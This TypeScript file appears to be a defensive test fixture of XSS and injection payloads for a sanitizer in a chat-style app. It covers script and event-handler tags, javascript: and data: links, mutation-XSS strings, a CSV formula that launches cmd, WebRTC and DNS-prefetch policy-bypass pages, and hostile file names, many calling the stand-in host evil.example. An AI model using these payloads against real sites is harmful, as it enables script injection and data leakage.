/** What an attacker writes where a page might take it for markup: each runs `alert`, or asks `evil.example` for something. */
export const scripts: readonly string[] = [
  "<script>window.hit=1</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=window.hit=1>",
  "<img src=https://evil.example/pixel.png>",
  "<svg onload=window.hit=1>",
  "<svg><script>window.hit=1</script></svg>",
  "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:window.hit=1'><text x=20 y=20>x</text></a></svg>",
  "<svg><foreignObject><iframe src=javascript:window.hit=1></iframe></foreignObject></svg>",
  "<svg><use href='https://evil.example/x.svg#a'></use></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.hit=1&gt;'>",
  "<iframe src=javascript:window.hit=1></iframe>",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "<object data=https://evil.example/x.swf></object>",
  "<embed src=https://evil.example/x.swf>",
  "<body onload=window.hit=1>",
  "<details open ontoggle=window.hit=1>x</details>",
  "<video><source onerror=window.hit=1></video>",
  "<audio src=https://evil.example/a.mp3 autoplay></audio>",
  "<input autofocus onfocus=window.hit=1>",
  "<select autofocus onfocus=window.hit=1></select>",
  "<marquee onstart=window.hit=1>x</marquee>",
  "<form action=https://evil.example><button>Approve once</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=prefetch href=https://evil.example/x>",
  "<style>@import url(https://evil.example/x.css);</style>",
  "<style>.composer{display:none}</style>",
  "<div style='background:url(https://evil.example/x.png)'>x</div>",
  "<div class='card' style='position:fixed;inset:0'>x</div>",
  "<template><script>window.hit=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
  "<textarea><img title='</textarea><img src=x onerror=window.hit=1>'>",
  "<x onclick=window.hit=1 tabindex=0 id=composer>x</x>",
  "<a href=javascript:window.hit=1>x</a>",
  '"><img src=x onerror=window.hit=1>',
  "'-window.hit=1-'",
  "{{constructor.constructor('window.hit=1')()}}",
  "${window.hit=1}",
  "<img src=x onerror=window.hit=1",
  "<<script>script>window.hit=1<</script>/script>",
  "<scr\u0000ipt>window.hit=1</scr\u0000ipt>",
  "&lt;img src=x onerror=window.hit=1&gt;",
  "＜script＞window.hit=1＜/script＞",
];

/** The same in the forms that Markdown has for links, pictures, code and maths. */
export const markdown: readonly string[] = [
  "[x](javascript:window.hit=1)",
  "[x](JaVaScRiPt:window.hit=1)",
  "[x](java\tscript:window.hit=1)",
  "[x](&#106;avascript:window.hit=1)",
  "[x](data:text/html,<script>opener.hit=1</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](//evil.example/x)",
  '[x](https://evil.example/ "onmouseover=window.hit=1")',
  "[x](/api/v1/conversations/c/files/content?path=uploads/a)",
  "![x](https://evil.example/pixel.png)",
  "![x](//evil.example/pixel.png)",
  "![x](javascript:window.hit=1)",
  "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.hit=1'/>)",
  '![x" onerror="window.hit=1](x)',
  "![x][r]\n\n[r]: https://evil.example/ref.png",
  "<javascript:window.hit=1>",
  '<https://evil.example/"onclick=window.hit=1>',
  '```"><img src=x onerror=window.hit=1>\ncode\n```',
  "```html\n<script>window.hit=1</script>\n```",
  "`<img src=x onerror=window.hit=1>`",
  "| <img src=x onerror=window.hit=1> | <script>window.hit=1</script> |\n| --- | --- |\n| ![x](https://evil.example/t.png) | [x](javascript:window.hit=1) |",
  "$\\href{javascript:window.hit=1}{x}$",
  "$\\includegraphics{https://evil.example/m.png}$",
  "$$\\class{composer}{x} \\style{position:fixed;inset:0}{y} \\id{composer}{z}$$",
  "$<img src=x onerror=window.hit=1>$",
  "- [ ] <img src=x onerror=window.hit=1>",
  "> <script>window.hit=1</script>",
  "# <img src=x onerror=window.hit=1>",
  `${"> ".repeat(3_000)}deep`,
  `${"[".repeat(2_000)}x${"](".repeat(2_000)}`,
];

/** Whole files that a browser would run, were they a page of ours. */
export const files: Readonly<Record<string, string>> = {
  "page.html":
    "<!doctype html><body><script>try{parent.hit=1}catch{};try{top.hit=1}catch{};" +
    "try{document.cookie='a=b'}catch{};try{localStorage.x=1}catch{};fetch('https://evil.example/f').catch(()=>{});" +
    "new Image().src='https://evil.example/i.png';document.body.append('ran in its own place');" +
    "try{open('https://evil.example/o')}catch{}</script><img src=https://evil.example/p.png>" +
    "<link rel=stylesheet href=https://evil.example/s.css><iframe src=https://evil.example/frame></iframe>",
  "drawing.svg":
    "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40' onload='parent.hit=1'><script>parent.hit=1</script>" +
    "<image href='https://evil.example/i.png'/><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='parent.hit=1'/>" +
    "</foreignObject><rect width='40' height='40' fill='teal'/></svg>",
  "notes.md": `# <img src=x onerror=window.hit=1>\n\n<script>window.hit=1</script>\n\n![x](https://evil.example/n.png)\n`,
  "cells.csv": `name,value\n"<img src=x onerror=window.hit=1>","=HYPERLINK(""https://evil.example"")"\n<script>window.hit=1</script>,'+cmd|' /C calc'!A0`,
  "code.js": `</code></pre><img src=x onerror=window.hit=1><script>window.hit=1</script>`,
  "text.txt": `<script>window.hit=1</script><img src=https://evil.example/t.png>`,
};

/** Pages that lead elsewhere by themselves, and whose scripts call somebody past all policies. */
export function callingPages(port: number): Readonly<Record<"leading.html" | "calling.html", string>> {
  const call =
    `const c=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${port}"}]});c.createDataChannel("x");` +
    `c.createOffer().then((o)=>c.setLocalDescription(o));document.body.textContent="runs"`;
  const hints =
    "<link rel=dns-prefetch href=//secret.evil.example><link rel=preconnect href=https://secret.evil.example>";
  return {
    "leading.html": `<!doctype html><meta http-equiv=refresh content='0;url=https://evil.example/'>stands still`,
    "calling.html": `<!doctype html>${hints}<body>stands still<script>${call}</script>`,
  };
}

/** Names of files; no name has a slash. */
export const names: readonly string[] = [
  "<img src=x onerror=window.hit=1>.txt",
  '"><svg onload=window.hit=1>.csv',
  "javascript:window.hit=1.md",
  "';window.hit=1;'.txt",
  "\u202egpj.exe.txt",
];
